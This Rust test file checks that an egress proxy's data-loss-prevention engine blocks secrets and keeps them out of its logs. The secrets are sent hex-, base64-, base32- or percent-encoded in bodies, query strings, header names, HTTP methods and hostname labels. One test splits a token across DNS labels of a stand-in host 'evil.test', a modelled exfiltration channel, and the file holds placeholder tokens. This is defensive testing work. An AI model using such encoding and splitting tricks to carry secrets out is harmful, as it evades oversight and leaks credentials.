//! The proxy with the real `bottle-dlp` engine (the default engine): pattern
//! rules, encoded known secrets, and no false alarms on ordinary data.

#![allow(clippy::unwrap_used)]

mod support;

use support::*;

const TOKEN: &str = "ghp_R3alT0kenValue0123456789abcdefABCD";

async fn setup() -> (Running, Recorder) {
    let (up, rec) = http_upstream().await;
    let p = Setup::new(format!(
        "dlp: block\nallow: [{{host: app.test}}, {{host: '*.app.test'}}]\nresolve: {{app.test: '{up}'}}\nknown_secret_env: [S]"
    ))
    .secrets(&[("S", TOKEN)])
    .start()
    .await;
    (p, rec)
}

fn b64(s: &str) -> String {
    bottle_egress::inject::base64(s.as_bytes())
}

#[tokio::test]
async fn pattern_shaped_keys_are_blocked_in_bodies() {
    let (p, rec) = setup().await;
    let mut c = client(p.addr).await;
    let body = r#"{"aws_access_key_id": "AKIAIOSFODNN7EXAMPLE", "aws_secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}"#;
    let (s, h, _) = send(
        &mut c,
        req(
            "POST",
            "http://app.test/upload",
            &[("content-type", "application/json")],
            body,
        ),
    )
    .await;
    assert_eq!(
        (s, h["x-claude-bottle-block"].to_str().unwrap()),
        (403, "dlp")
    );
    assert_eq!(rec.count(), 0);
    p.events_without(&["wJalrXUtnFEMI", "IOSFODNN7EXAMPLE"]);
}

#[tokio::test]
async fn encoded_known_secret_is_blocked() {
    let (p, rec) = setup().await;
    for target in [
        format!("http://app.test/x?d={}", b64(TOKEN)),
        format!(
            "http://app.test/x?d={}",
            TOKEN
                .bytes()
                .map(|b| format!("%{b:02X}"))
                .collect::<String>()
        ),
    ] {
        let mut c = client(p.addr).await;
        let (s, _, _) = send(&mut c, req("GET", &target, &[], "")).await;
        assert_eq!(s, 403, "{target}");
    }
    let mut c = client(p.addr).await;
    let hex: String = TOKEN.bytes().map(|b| format!("{b:02x}")).collect();
    let (s, _, _) = send(&mut c, req("POST", "http://app.test/x", &[], &hex)).await;
    assert_eq!(s, 403);
    assert_eq!(rec.count(), 0);
    p.events_without(&[TOKEN]);
}

#[tokio::test]
async fn ordinary_data_passes() {
    let (p, rec) = setup().await;
    let mut c = client(p.addr).await;
    let body = r#"{"id": "3f2b8c1e-9d4a-4f6b-8e2a-1c5d7e9f0a3b", "commit": "9fceb02d0ae598e95dc970b74767f19372d61af8", "integrity": "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==", "text": "The quick brown fox jumps over the lazy dog."}"#;
    let (s, _, _) = send(&mut c, req("POST", "http://app.test/ok", &[], body)).await;
    assert_eq!(s, 200);
    assert_eq!(rec.count(), 1);
}

#[tokio::test]
async fn known_secret_in_a_host_label_is_blocked() {
    let (p, _rec) = setup().await;
    let (s, text, _) = connect(
        p.addr,
        &format!("{}.app.test:443", TOKEN.to_ascii_lowercase()),
    )
    .await;
    assert_eq!(s, 403, "{text}");
    p.events_without(&[TOKEN, &TOKEN.to_ascii_lowercase()]);
}

fn hex(s: &str) -> String {
    s.bytes().map(|b| format!("{b:02x}")).collect()
}

/// A decoy the content rules catch in one label must not keep the label
/// checks from blanking a known secret split across the next two: the
/// refused CONNECT's event carries neither half.
#[tokio::test]
async fn a_decoy_does_not_shield_a_split_secret_in_the_log() {
    let (p, _rec) = setup().await;
    let h = hex(TOKEN);
    let (head, tail) = h.split_at(h.len() / 2);
    let decoy = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
    let (s, text, _) = connect(p.addr, &format!("{decoy}.{head}.{tail}.evil.test:443")).await;
    assert_eq!(s, 403, "{text}");
    p.events_without(&[head, tail, decoy]);
}

/// A header's name is sent as surely as its value: `X-<hex of the token>:
/// 1` to an allowed host must not carry the token out, nor leave it in
/// the audit log.
#[tokio::test]
async fn known_secret_in_a_header_name_is_blocked() {
    let (p, rec) = setup().await;
    let name = format!("x-{}", hex(TOKEN));
    let mut c = client(p.addr).await;
    let (s, h, body) = send(&mut c, req("GET", "http://app.test/x", &[(&name, "1")], "")).await;
    assert_eq!(
        (s, h["x-claude-bottle-block"].to_str().unwrap()),
        (403, "dlp")
    );
    assert!(!body.contains(&hex(TOKEN)), "{body}");
    assert_eq!(rec.count(), 0);
    p.event_like(serde_json::json!({"decision": "block", "reason": "dlp"}))
        .await;
    p.events_without(&[TOKEN, &hex(TOKEN)]);
}

/// hyper keeps header names in lower case: a form of the token with no
/// lower-case letters (base32, here) arrives folded and is still caught.
#[tokio::test]
async fn a_case_folded_form_in_a_header_name_is_blocked() {
    let (p, rec) = setup().await;
    let b32 = String::from_utf8(bottle_dlp::base32_encode(TOKEN.as_bytes())).unwrap();
    let name = format!("X-{}", b32.to_ascii_uppercase());
    let mut c = client(p.addr).await;
    let (s, h, _) = send(&mut c, req("GET", "http://app.test/x", &[(&name, "1")], "")).await;
    assert_eq!(
        (s, h["x-claude-bottle-block"].to_str().unwrap()),
        (403, "dlp")
    );
    assert_eq!(rec.count(), 0);
    p.events_without(&[TOKEN, &b32, &b32.to_ascii_lowercase()]);
}

/// Any token is a method to HTTP: one made of the token's hex, on a route
/// without `methods`, is refused, and the event does not show it.
#[tokio::test]
async fn known_secret_as_the_method_is_blocked() {
    let (p, rec) = setup().await;
    let mut c = client(p.addr).await;
    let (s, h, _) = send(&mut c, req(&hex(TOKEN), "http://app.test/x", &[], "")).await;
    assert_eq!(
        (s, h["x-claude-bottle-block"].to_str().unwrap()),
        (403, "dlp")
    );
    assert_eq!(rec.count(), 0);
    let e = p
        .event_like(serde_json::json!({"decision": "block", "reason": "dlp"}))
        .await;
    assert!(e["method"].as_str().unwrap().contains("[REDACTED:"), "{e}");
    p.events_without(&[TOKEN, &hex(TOKEN)]);
}

/// A route with `methods` refuses such a method as `method` before DLP
/// looks; its event must not show the method either.
#[tokio::test]
async fn a_method_refused_by_the_route_is_not_logged_raw() {
    let (up, rec) = http_upstream().await;
    let p = Setup::new(format!(
        "dlp: block\nallow: [{{host: app.test, methods: [GET]}}]\nresolve: {{app.test: '{up}'}}\nknown_secret_env: [S]"
    ))
    .secrets(&[("S", TOKEN)])
    .start()
    .await;
    let mut c = client(p.addr).await;
    let (s, h, _) = send(&mut c, req(&hex(TOKEN), "http://app.test/x", &[], "")).await;
    assert_eq!(
        (s, h["x-claude-bottle-block"].to_str().unwrap()),
        (403, "method")
    );
    assert_eq!(rec.count(), 0);
    p.event_like(serde_json::json!({"decision": "block", "reason": "method"}))
        .await;
    p.events_without(&[TOKEN, &hex(TOKEN)]);
}
